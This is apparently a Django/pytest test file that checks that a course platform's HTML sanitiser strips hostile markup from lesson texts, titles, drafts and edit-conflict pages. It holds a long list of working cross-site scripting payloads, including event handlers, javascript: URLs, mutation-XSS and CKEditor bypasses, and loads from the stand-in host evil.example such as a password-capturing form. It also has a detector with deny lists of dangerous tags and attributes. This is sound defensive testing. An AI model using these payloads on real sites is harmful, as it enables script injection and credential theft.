"""A trainer's HTML from a hostile client is harmless wherever it is shown.

The pages are parsed as a browser parses them and looked at, not searched for words.
"""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.test import Client

from courses.actions import publish_course
from courses.actions.texts import keep_draft
from courses.models import TextDraft
from courses.richtext import sanitise, tidy
from tests import factories
from tests.worlds import course_file

MARK = "hostile"
PAYLOADS = [
    "<script>hostile()</script>",
    "<ScRiPt src=//evil.example/hostile.js></sCrIpT>",
    "<scr<script>ipt>hostile()</scr</script>ipt>",
    "<img src=x onerror=hostile()>",
    '<img src="javascript:hostile()">',
    "<img src=1 onerror=hostile()//",
    '<img/src="x"/onerror="hostile()">',
    "<img src=`x`onerror=hostile()>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aG9zdGlsZSgpPg==">',
    '<img src="https://evil.example/hostile.png">',
    '<img src="//evil.example/hostile.png">',
    '<img srcset="https://evil.example/hostile.png 1x" src="x">',
    '<img src="/files/00000000-0000-4000-8000-000000000000/a.png?x=//hostile" onload=hostile()>',
    '<img src="/files/../../sign-out/hostile">',
    '<a href="javascript:hostile()">x</a>',
    '<a href=" &#14; javascript:hostile()">x</a>',
    '<a href="java&#9;script:hostile()">x</a>',
    '<a href="java\nscript:hostile()">x</a>',
    '<a href="JaVaScRiPt&colon;hostile()">x</a>',
    '<a href="data:text/html,<script>hostile()</script>">x</a>',
    '<a href="vbscript:hostile()">x</a>',
    '<a href="blob:https://evil.example/hostile">x</a>',
    '<a href="#" onclick="hostile()" onmouseover=hostile()>x</a>',
    '<a href="https://evil.example" target="_blank" rel="opener" ping="//evil.example/hostile">'
    "x</a>",
    "<svg onload=hostile()>",
    "<svg><script>hostile()</script></svg>",
    '<svg><a xlink:href="javascript:hostile()"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=hostile() attributeName=x></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=hostile()>#x"></use></svg>',
    "<svg><foreignObject><iframe onload=hostile()></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=hostile()></style></svg>",
    '<math><maction actiontype="statusline" xlink:href="javascript:hostile()">x</maction></math>',
    '<math href="javascript:hostile()">x</math>',
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=hostile()&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hostile()>",
    "<svg></p><style><a id='</style><img src=1 onerror=hostile()>'>",
    "<noscript><p title='</noscript><img src=x onerror=hostile()>'>",
    "<textarea></textarea><img src=x onerror=hostile()></textarea>",
    "</textarea><script>hostile()</script>",
    "</textarea></form><form action=//evil.example/hostile><input name=password>"
    "<button>Save</button>",
    "<title></title><img src=x onerror=hostile()></title>",
    "<template><img src=x onerror=hostile()></template>",
    "<template><template><script>hostile()</script></template></template>",
    "<xmp><p title='</xmp><img src=x onerror=hostile()>'></xmp>",
    "<plaintext><img src=x onerror=hostile()>",
    "<listing>&lt;img src=x onerror=hostile()&gt;</listing>",
    "<![CDATA[<script>hostile()</script>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=hostile()>]]></svg>",
    "<!--<img src='--><img src=x onerror=hostile()>'-->",
    "<!--><script>hostile()</script>-->",
    "<!--{cke_protected}%3Cscript%3Ehostile()%3C/script%3E-->",
    "<!--{cke_protected}{C}%3C!--%20%3Cimg%20src=x%20onerror=hostile()%3E%20--%3E-->",
    '<p data-cke-saved-onclick="hostile()" data-cke-pa-onclick="hostile()">x</p>',
    '<a data-cke-saved-href="javascript:hostile()" href="#">x</a>',
    '<img data-cke-saved-src="x" data-cke-realelement="%3Cscript%3Ehostile()%3C%2Fscript%3E" '
    'class="cke_iframe" src="x">',
    '<cke:script>hostile()</cke:script><cke:object data="hostile"></cke:object>',
    '<p data-cke-display-name="<img src=x onerror=hostile()>">x</p>',
    "<style>@import '//evil.example/hostile.css';</style>",
    "<style>*{background:url(javascript:hostile())}</style>",
    '<p style="background:url(//evil.example/hostile)">x</p>',
    '<p style="position:fixed;inset:0" class="skip head hostile" id="main">x</p>',
    '<link rel="stylesheet" href="//evil.example/hostile.css">',
    '<base href="//evil.example/hostile/">',
    '<meta http-equiv="refresh" content="0;url=javascript:hostile()">',
    '<iframe src="javascript:hostile()"></iframe>',
    '<iframe srcdoc="<script>hostile()</script>"></iframe>',
    '<object data="data:text/html,<script>hostile()</script>"></object>',
    '<embed src="javascript:hostile()">',
    "<applet code=hostile></applet>",
    '<form action="//evil.example/hostile"><input autofocus onfocus=hostile()></form>',
    '<button formaction="javascript:hostile()">x</button>',
    "<input onfocus=hostile() autofocus>",
    "<select onchange=hostile()><option>x</select>",
    "<details open ontoggle=hostile()>x</details>",
    "<video><source onerror=hostile()></video>",
    '<video poster="javascript:hostile()" src="//evil.example/hostile"></video>',
    "<audio src=x onerror=hostile()></audio>",
    "<marquee onstart=hostile()>x</marquee>",
    "<body onload=hostile()>",
    '<table background="javascript:hostile()"><tr><td>x</table>',
    '<div tabindex="0" onfocus="hostile()" autofocus>x</div>',
    '<div contenteditable onblur="hostile()">x</div>',
    "<p><script>hostile()</script ></p>",
    "<p/onclick=hostile()>x</p>",
    "<p \x0conclick=hostile()>x</p>",
    '<p title="&quot; onmouseover=hostile() x=&quot;">x</p>',
    '<img src="/files/00000000-0000-4000-8000-000000000000/a.png" '
    'alt="&quot;><script>hostile()</script>">',
    '<a title="<img src=x onerror=hostile()>" href="https://example.org">x</a>',
    "<dialog open onclose=hostile()>x</dialog>",
    '<slot name="x" onslotchange=hostile()></slot>',
    "<custom-element onclick=hostile() is=x>x</custom-element>",
    '<a href="//evil.example/hostile" xlink:href="javascript:hostile()">x</a>',
    "{{ hostile }}{% load hostile %}{% include hostile %}",
    '<?xml version="1.0"?><?php hostile() ?>',
    '<p onclick&#61;"hostile()">x</p>',
    "\u202e<script>hostile()</script>",
    "<p>" * 2000 + "<img src=x onerror=hostile()>",
    "<div>" * 600 + "<script>hostile()</script>",
]
TITLES = [
    "<script>hostile()</script>",
    '"><img src=x onerror=hostile()>',
    "</title><script>hostile()</script>",
    "</textarea><script>hostile()</script>",
    "{{ hostile }}{% now 'Y' %}",
    "' onmouseover='hostile()",
]
OWN_SCRIPTS = "/static/"
ADDRESSES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "srcset",
    "xlink:href",
    "ping",
}
NEVER = {
    "iframe", "object", "embed", "applet", "base", "math", "frame", "frameset", "marquee",
    "noscript", "plaintext", "xmp", "listing", "style", "audio", "source", "slot",
}  # fmt: skip


class Looker(HTMLParser):
    """Notes what could run, load or lead astray."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.scripts: list[str] = []
        self.inside: list[str] = []

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        if tag in NEVER or ":" in tag or "-" in tag:
            self.found.append(f"<{tag}>")
        if tag == "script" and not (given.get("src") or "").startswith(OWN_SCRIPTS):
            self.found.append(f"script {given}")
        if tag == "meta" and "http-equiv" in given:
            self.found.append(f"meta {given}")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in {"style", "srcdoc", "ping", "target", "background"}:
                self.found.append(f"{tag} {name}")
            if name.startswith("data-cke"):
                self.found.append(f"{tag} {name}")
            if name in ADDRESSES:
                parts = urlsplit("".join(value.split()))
                if parts.scheme not in {"", "http", "https", "mailto"}:
                    self.found.append(f"{tag} {name}={value}")
                if tag != "a" and (parts.netloc or MARK in value):
                    self.found.append(f"{tag} {name}={value}")
            if name == "class" and MARK in value:
                self.found.append(f"{tag} class={value}")

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.found.append(f"comment {data}")


def harm(html: str) -> list[str]:
    looker = Looker()
    looker.feed(html)
    looker.close()
    return looker.found


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_nothing_passes_and_what_passed_stays(payload):
    """Also after a second cleaning: HTML that changes its meaning when parsed again is a hole."""
    html = tidy(payload)

    assert harm(html) == []
    assert sanitise(html) == html
    assert tidy(html) == html


NOBODYS = "/files/00000000-0000-4000-8000-000000000000/a.png"


@pytest.fixture
def world(db):
    owner = factories.service("UA")
    course = factories.draft_course(owner, languages=["uk"])
    lesson = factories.lesson(factories.module(course))
    publish_course(course=course, actor=None)
    return factories.trainer(owner), factories.officer(owner), lesson


@pytest.fixture
def client_of():
    clients: dict[int, Client] = {}

    def client(person):
        if person.pk not in clients:
            clients[person.pk] = Client()
            clients[person.pk].force_login(person)
        return clients[person.pk]

    return client


def pages(lesson, trainer_client, officer_client):
    base = f"/teaching/courses/{lesson.course.code}/lessons/{lesson.key}/text/"
    return {
        "editor": trainer_client.get(base),
        "beside": trainer_client.get(f"{base}?to=uk&from=uk"),
        "history": trainer_client.get(f"{base}uk/history/"),
        "translations": trainer_client.get(f"/teaching/courses/{lesson.course.code}/translations/"),
        "lesson": officer_client.get(f"/courses/{lesson.course.code}/lessons/{lesson.key}/"),
        "course": officer_client.get(f"/courses/{lesson.course.code}/"),
    }


def area_of(html: str) -> str:
    """What the editor is fed with: it puts this into the page as HTML."""

    class Area(HTMLParser):
        text, is_in = "", False

        def handle_starttag(self, tag, attrs):
            if tag == "textarea" and dict(attrs).get("name") == "body":
                self.is_in = True

        def handle_endtag(self, tag):
            if tag == "textarea":
                self.is_in = False

        def handle_data(self, data):
            self.text += data if self.is_in else ""

    area = Area()
    area.feed(html)
    return area.text


def with_pictures(lesson, body: str) -> str:
    """So that the form takes them: the picture is the course's own, and says what it shows."""
    file = lesson.course.files.first() or course_file(lesson.course)
    return body.replace(NOBODYS, f"/files/{file.pk}/{file.name}").replace("<img", "<img alt=x ")


def post_all(client, lesson, bodies, title="Назва"):
    """One text with all that a hostile client would send, as the form sends it."""
    address = f"/teaching/courses/{lesson.course.code}/lessons/{lesson.key}/text/?to=uk"
    newest = lesson.newest_texts()["uk"]
    body = with_pictures(lesson, "\n<p>між</p>\n".join(bodies))
    response = client.post(address, {"title": title, "body": body, "base": newest.pk})
    assert response.status_code == 302
    return response


@pytest.mark.django_db
def test_harmless_wherever_it_is_shown(world, client_of):
    trainer, officer, lesson = world
    mine, theirs = client_of(trainer), client_of(officer)
    # One at a time, for a payload may swallow those after it; the last is what pages show.
    for start in range(0, len(PAYLOADS), 7):
        post_all(mine, lesson, ["<p>початок</p>", *PAYLOADS[start : start + 7]])
        publish_course(course=lesson.course, actor=None)
        for name, response in pages(lesson, mine, theirs).items():
            assert response.status_code == 200, name
            html = response.content.decode()
            assert harm(html) == [], (name, start)
            assert harm(area_of(html)) == [], (name, start)


@pytest.mark.django_db
def test_titles_are_only_words(world, client_of):
    trainer, officer, lesson = world
    mine, theirs = client_of(trainer), client_of(officer)
    for title in TITLES:
        post_all(mine, lesson, ["<p>текст</p>"], title=title)
        publish_course(course=lesson.course, actor=None)
        for name, response in pages(lesson, mine, theirs).items():
            assert harm(response.content.decode()) == [], (name, title)


@pytest.mark.django_db
def test_drafts_and_conflicts_are_cleaned_too(world, client_of):
    trainer, _officer, lesson = world
    mine = client_of(trainer)
    address = f"/teaching/courses/{lesson.course.code}/lessons/{lesson.key}/text/?to=uk"
    base = lesson.newest_texts()["uk"].pk
    for start in range(0, len(PAYLOADS), 20):
        body = "<p>так</p>".join(PAYLOADS[start : start + 20])
        keep_draft(
            lesson=lesson, language="uk", title=TITLES[1], body=body, base=base, actor=trainer
        )
        shown = mine.get(address).content.decode()
        assert TextDraft.objects.filter(editor=trainer).exists()
        assert harm(shown) == harm(area_of(shown)) == []
        # The second of two: the difference, theirs and the own text stand on the page.
        post_all(client_of(factories.trainer(lesson.course.owner)), lesson, PAYLOADS[start:][:5])
        typed = with_pictures(lesson, body) + "я"
        answer = mine.post(address, {"title": TITLES[0], "body": typed, "base": base})
        assert answer.status_code == 200
        shown = answer.content.decode()
        assert 'id="conflict"' in shown
        assert harm(shown) == harm(area_of(shown)) == []


def test_the_looker_sees_what_is_there():
    """A test that finds nothing must be able to find something."""
    raw = [payload for payload in PAYLOADS if harm(payload)]
    assert len(raw) > len(PAYLOADS) * 0.75
    assert harm("<p>Ґава <b>їсть</b> <a href='https://example.org/'>тут</a></p>") == []
